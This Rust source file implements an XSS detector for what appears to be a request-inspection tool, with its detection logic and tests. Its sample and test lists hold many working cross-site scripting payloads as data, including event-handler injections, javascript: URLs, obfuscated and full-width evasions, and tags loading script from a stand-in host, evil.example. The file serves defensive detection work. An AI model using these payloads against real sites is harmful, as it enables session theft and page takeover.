//! Cross-site scripting: markup, attributes, URLs and script that a browser would execute, in any context of a page.
//!
//! The value is read as HTML text ([`tag`]), as the inside of an attribute (a quote, then an event handler), and as
//! the inside of a script ([`script`]). Handlers are any `on...` attribute of a tag, not a list.

mod attribute;
mod hosts;
mod script;
pub mod svg;
mod tag;

use super::any_of::AnyOf;
use super::text_field::{self, TextField};
use super::{Detector, Match, Samples, Subject, rejoin, work};
use crate::model::{AttackType, ByteClassFilter, ByteClasses, Confidence, Tag, Zone};
use crate::normalize::fold;

/// The detector.
pub const DETECTOR: Detector = Detector {
    name: "xss.grammar",
    attack: AttackType::Xss,
    about: "Markup or script that a browser would execute when the value is shown to it",
    zones: Zone::PARAMETERS.with(Zone::HEADER),
    filter: FILTER,
    run,
    samples: Samples {
        positive: &[
            "javascript:void(0) in alert(1)",
            "javascript:void(0) x=alert(1)",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=confirm`1`>",
            "\" onfocus=alert(1) autofocus x=\"",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "javascript:alert(document.domain)",
            "';alert(1)//",
            "<iframe srcdoc='x'>",
            "<x:script src=//evil.example></x:script>",
            "<IMG STYLE='width:expression(alert(1))'>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "`-alert(1)-`",
            "＜script＞alert(1)＜/script＞",
            "＜script＞alert（1）＜／script＞",
            "<<scr\0ipt/src=//evil.example/x.js></script",
            "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        ],
        negative: &[
            "The values are \"confirm\" (asks for yes or no) and \"none\"",
            "replace \"eval()\" calls by \"include\" while pages are made",
            "no longer call ``eval()`` on what is received",
            "JavaScript: gettext now supports JavaScript (in part), as of today; see below",
            "a < b and c > d",
            "<p class=\"lead\">Hello <b>world</b>, <a href=\"https://example.com/?on=1\">see</a></p>",
            "JavaScript: The Good Parts (2008)",
            "javascript:void(0) links",
            "JavaScript: Basics of the JavaScript Language",
            "why do pages have javascript:void(0) as target?",
            "<a href=\"javascript:void(0)\"> is no button",
            "confirm() dialog",
            "online = true; once upon a time",
            "please confirm (by mail) and alert (if needed)",
            "<img src=\"/static/logo.png\" alt=\"Logo\">",
            "I <3 this; 5 > 4",
            "javascript:void(0)",
            "Alerts (2)",
            "alert(s)",
            "H<sub>2</sub>O, <b>f</b>irst and <i>o</i>n",
        ],
    },
};

/// Delimiters of markup and script. Their full-width forms are bytes beyond ASCII.
const FILTER: ByteClassFilter = ByteClassFilter::any(
    ByteClasses::LT
        .with(ByteClasses::EQUALS)
        .with(ByteClasses::LPAREN)
        .with(ByteClasses::BACKTICK)
        .with(ByteClasses::COLON)
        .with(ByteClasses::HIGH),
)
.and(ByteClasses::ALPHA.with(ByteClasses::LPAREN).with(ByteClasses::HIGH));

fn run(subject: &Subject<'_>) -> Option<Match> {
    let pays = || subject.pays();
    let found = find(subject.bytes, subject.classes, &pays);
    if found.is_some()
        && let Some(decoded) = shows_code(subject)
        && let Some(rest) = without_code(subject.bytes, decoded)
    {
        // Positions in the rest do not apply to the value: report the whole value.
        let rest = find(&rest, ByteClasses::of(&rest), &pays);
        return rest.map(|m| Match { start: 0, end: subject.bytes.len(), ..m });
    }
    if found.is_some_and(|m| script::leads(subject.bytes, m.start)) && text_field::is_kept(subject) {
        return None;
    }
    if found.is_none_or(|m| m.confidence < Confidence::High)
        && subject.classes.intersects(ByteClasses::LT.with(ByteClasses::CONTROL))
        && pays()
        && let Some(joined) = rejoin::run_if(subject.bytes, is_active)
        && let Some(m) = find(&joined, ByteClasses::of(&joined), &pays)
        && m.confidence == Confidence::High
    {
        return Some(Match { start: 0, end: subject.bytes.len(), ..m });
    }
    if found.is_none_or(|m| m.confidence < Confidence::High)
        && subject.classes.intersects(ByteClasses::HIGH)
        && let std::borrow::Cow::Owned(folded) = fold::run(subject.bytes)
    {
        // Positions in the folded text do not apply to the value: report the whole value.
        let wide =
            find(&folded, ByteClasses::of(&folded), &pays).map(|m| Match { start: 0, end: subject.bytes.len(), ..m });
        return wide.filter(|m| found.is_none_or(|narrow| m.confidence > narrow.confidence)).or(found);
    }
    found
}

/// Words by which markup or script acts.
static ACTIVE: AnyOf = AnyOf::new(&[
    b"action",
    b"alert",
    b"atob",
    b"audio",
    b"base",
    b"body",
    b"confirm",
    b"constructor",
    b"cookie",
    b"data",
    b"details",
    b"document",
    b"embed",
    b"eval",
    b"expression",
    b"fetch",
    b"form",
    b"frame",
    b"function",
    b"href",
    b"iframe",
    b"image",
    b"img",
    b"import",
    b"input",
    b"link",
    b"location",
    b"marquee",
    b"math",
    b"meta",
    b"object",
    b"on",
    b"prompt",
    b"script",
    b"setinterval",
    b"settimeout",
    b"src",
    b"style",
    b"svg",
    b"video",
    b"window",
]);

/// Whether a word, lower case, has one of these in it, or is the name of an event handler.
fn is_active(word: &[u8]) -> bool {
    word.starts_with(b"on") || ACTIVE.is_in(word)
}

/// Whether the value is formatted text in a field that is made for it; `true`: with its character references decoded. What
/// such a text has in `<code>` or `<pre>` is shown, unless it is markup.
fn shows_code(subject: &Subject<'_>) -> Option<bool> {
    if text_field::of(subject) != Some(TextField::Prose) || memchr::memmem::find(subject.bytes, b"</").is_none() {
        return None;
    }
    Some(subject.ancestors().next().is_some_and(|step| step.tag == Tag::Htmljs))
}

/// The text without what is in `<code>` and `<pre>`; `None` if there is neither. `decoded`: markup in them was written with
/// character references, and is found in the text as it was before.
fn without_code(text: &[u8], decoded: bool) -> Option<Vec<u8>> {
    const ELEMENTS: [(&[u8], &[u8]); 2] = [(b"<code", b"</code>"), (b"<pre", b"</pre>")];
    let mut rest = Vec::new();
    let mut from = 0;
    // Where the next end of each is, once it was looked for: many elements may wait for the same one.
    let mut ends: [Option<usize>; 2] = [None; 2];
    while let Some(offset) = memchr::memchr(b'<', &text[from..]) {
        let at = from + offset;
        work::count(offset + 1);
        let element = ELEMENTS.iter().position(|(open, _)| {
            let next = text.get(at + open.len());
            text[at..].get(..open.len()).is_some_and(|head| head.eq_ignore_ascii_case(open))
                && matches!(next, Some(b' ' | b'>'))
        });
        let mut removed_to = None;
        if let Some(number) = element {
            if ends[number].is_none_or(|end| end < at) {
                let offset = memchr::memmem::find(&text[at..], ELEMENTS[number].1);
                work::count(offset.unwrap_or(text.len() - at));
                ends[number] = offset.map(|offset| at + offset);
            }
            let Some(end) = ends[number] else { break };
            let has_markup = || memchr::memchr(b'<', &text[at + 1..end]).is_some();
            removed_to = (decoded || !has_markup()).then_some(end);
        }
        match removed_to {
            Some(end) => {
                rest.extend_from_slice(&text[from..at]);
                from = end;
            }
            None => {
                rest.extend_from_slice(&text[from..=at]);
                from = at + 1;
            }
        }
    }
    let removed = rest.len() < from;
    rest.extend_from_slice(&text[from..]);
    removed.then_some(rest)
}

/// The match of highest confidence in `text`.
fn find(text: &[u8], classes: ByteClasses, pays: &work::Pays<'_>) -> Option<Match> {
    let mut best = None;
    if classes.intersects(ByteClasses::LT) && keep(&mut best, tag::find(text, pays)) {
        return best;
    }
    if classes.intersects(ByteClasses::EQUALS) && keep(&mut best, attribute::outside_tag(text, pays)) {
        return best;
    }
    if classes.intersects(ByteClasses::COLON) && keep(&mut best, script::url_in(text, pays)) {
        return best;
    }
    if classes.intersects(ByteClasses::LPAREN.with(ByteClasses::BACKTICK)) {
        keep(&mut best, script::find(text, pays));
    }
    best
}

/// Keeps the match of higher confidence. True if it cannot be surpassed.
fn keep(best: &mut Option<Match>, new: Option<Match>) -> bool {
    if let Some(new) = new
        && best.is_none_or(|old| new.confidence > old.confidence)
    {
        *best = Some(new);
    }
    best.is_some_and(|m| m.confidence == Confidence::High)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn high(text: &str) -> bool {
        find(text.as_bytes(), ByteClasses::of(text.as_bytes()), &|| true)
            .is_some_and(|m| m.confidence == Confidence::High)
    }

    #[test]
    fn injections_are_found_in_every_context() {
        for text in [
            "<ScRiPt\x0c>alert(1)</sCrIpT>",
            "</title><svg/onload=alert(1)>",
            "<<script>alert(1)//<</script>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<form action=vbscript:msgbox(1)>",
            "x' onmouseover='alert(1)",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<details open ontoggle=import('//evil.example')>",
            "<base href=//evil.example>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "\"};alert(1);//",
            "a`;alert(1)` b c",
            "';`x`;alert(1);` b c`",
            "<style>@import'//evil.example';</style>",
            "<iframe src=https://evil.example></iframe>",
            "<iframe src=//evil.example></iframe>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<meta http-equiv=refresh content='0;url=javascript&colon;alert(1)'>",
            "<?xml-stylesheet href='javascript:alert(1)'?>",
            "<?xml-stylesheet href='//evil.example/a.xsl' type='text/xsl'?>",
            "<p style='background:url(data:text/html,x)'>",
            "<style>@import url(https://fonts.googleapis.com.evil.example/);</style>",
            "<style>x{behavior:url(#default#time2)}</style>",
            "a=1,confirm(1)//",
            "<iframe src=https://evil.example width=1 onload=alert(1)></iframe>",
            "<iframe src=javascript:alert(1) width=1>",
            "'<code>';alert(1)//",
            "x\u{2028}alert(1)",
            "x={a:1};alert(1)//",
            "alert(1) instanceof Object",
            "<script type=\"text/javascript\" type=\"application/json\">x()</script>",
            "<script type=application/ld+json>{}</script><script>x()</script>",
            "<script type=text/html>a</script><script>x()</script>",
            "<script type=text/html><img src=x onerror=x()></script>",
            "<script type=text/babel>x()</script>",
            "<script type='text/html-js' src=//a.example></script>",
            "<script type=application/json onload=x()>{}</script>",
            "<?import namespace=\"t\" implementation=\"#default#time2\">",
            "<a xmlns:b=\"http://www.w3.org/1999/xhtml\"><b:script>x()</b:script></a>",
            "<svg:script>x()</svg:script>",
        ] {
            assert!(high(text), "{text}");
        }
    }

    #[test]
    fn markup_without_script_is_not_reported() {
        for text in [
            "<h1>Title</h1><ul><li>one</li></ul>",
            "use `<script>` tags sparingly",
            "Don't `eval()` JSON from clients",
            "f('a') prints a; alert('b') shows a box.",
            "<a href=\"/x\" onclick=\"return false\">x</a>",
            "Moves from `eval()` to `ast.literal_eval()`;\nsee `alert(1)`.",
            "URLs with `javascript:` or `data:` are refused",
            "grep -r \"eval(\\|exec(\\|innerHTML\" src/",
            "if (a<b) { return on; }",
            "call confirm() when done",
            "Dear team, the alert (see above) fired",
            "<input type=checkbox checked>",
            "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/a?start=5\" allowfullscreen></iframe>",
            "<p>Hi</p><iframe src=\"https://www.youtube.com/embed/a\"></iframe>",
            "<p>Don't use <code>eval()</code> here</p>",
            "```js\ndocument.querySelector('#x').addEventListener('click', () => alert('hi'));\n```",
            "<button onClick={handleClick}>Go</button>",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
            "<link rel=stylesheet href='assets/a.css'>",
            "const x = 1; onChange is a prop",
            "import A from 'a';\nexport const B = () => <button onClick={() => confirm('sure?')}>x</button>;",
            "<Row onSelect={(event) => { alert('x') }} />",
            "alert(1) is what most probes call",
            "<script type=\"application/ld+json\">{\"@type\":\"Product\",\"name\":\"A (b)\"}</script>",
            "<script type=\"text/html\" id=\"row\"><td>{{ name }}</td><td class=\"b\">(a)</td></script>",
            "<p class=\"a\">x</p> &lt;img src=x onerror=alert(1)&gt;",
            "<pre><code class=\"html\">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
            "<td style=\"background-image: url(data: image/png;base64,iVBORw0KGgo=)\">x</td>",
            "<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]-->",
            "<style>@import url(https://fonts.googleapis.com/css?family=A:300,400);</style>",
            "<link href='https://fonts.googleapis.com/css?family=A' rel='stylesheet'>",
            "<iframe class=\"embed\" src=\"//cdn.embedly.com/widgets/media.html?a=b\" width=\"600\" height=\"338\"></iframe>",
            "Replaces alert(), confirm() and prompt() of the page",
            "<meta http-equiv=\"refresh\" content=\"0; URL=next.html\">",
            "<?xml-stylesheet href=\"doc.xsl\" type=\"text/xsl\"?>",
            "<xs:import namespace=\"urn:a\" schemaLocation=\"a.xsd\"/>",
            "<import resource=\"classpath:a.xml\"/>",
            "<bpmn:script>task.set(\"a\", 1);</bpmn:script>",
        ] {
            assert!(!high(text), "{text}");
        }
    }

    #[test]
    fn many_elements_for_code_cost_no_more_than_their_length() {
        for (unit, end) in
            [("<code>", "</code>"), ("<pre ", "</pre>"), ("<code><pre>", "</code></pre>"), ("<code>", "")]
        {
            for decoded in [false, true] {
                work::assert_linear(unit, 1 << 14, 8, |text| without_code(&[text, end.as_bytes()].concat(), decoded));
            }
        }
    }

    #[test]
    fn elements_for_code_are_left_out() {
        for (text, rest) in [
            ("<p>a</p><code>b</code>c", Some("<p>a</p></code>c")),
            ("<PRE class=x><code>b</code></pre>c<code>d</code>", Some("</pre>c</code>")),
            ("<code>b", None),
            ("<codes>b</codes>", None),
        ] {
            assert_eq!(without_code(text.as_bytes(), true).as_deref(), rest.map(str::as_bytes), "{text}");
        }
        for (text, rest) in
            [("<code><img src=x></code>", None), ("<pre><code>a</code></pre>", Some("<pre></code></pre>"))]
        {
            assert_eq!(without_code(text.as_bytes(), false).as_deref(), rest.map(str::as_bytes), "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn never_panics(text in r#"[<>/ a-z"'=`(){}\[\]:;on\\&#\x00\x0b-]{0,200}"#) {
            if let Some(m) = find(text.as_bytes(), ByteClasses::of(text.as_bytes()), &|| true) {
                proptest::prop_assert!(m.start <= m.end && m.end <= text.len());
            }
        }
    }

    #[test]
    fn work_on_hostile_text_is_linear() {
        const MARKUP: &[&str] = &[
            "<a \"",
            "<a on",
            "onload=x ",
            "onx=",
            "javascript:",
            ":::::jjj",
            "<script>",
            "<style>",
            "<a b=\"",
            "<a b=' c=\"",
            "t:jjjj",
            "[!+(",
        ];
        const CALLS: &[&str] = &["alert(", "!(", "a=alert ", "'alert (", "x = alert(", "alert x`"];
        for unit in MARKUP {
            work::assert_linear(unit, 1 << 14, 100, |text| find(text, ByteClasses::of(text), &|| true));
        }
        // Calls are looked for in texts of at most 4 KiB.
        for unit in CALLS {
            work::assert_linear(unit, 1 << 10, 100, |text| find(text, ByteClasses::of(text), &|| true));
        }
    }
}
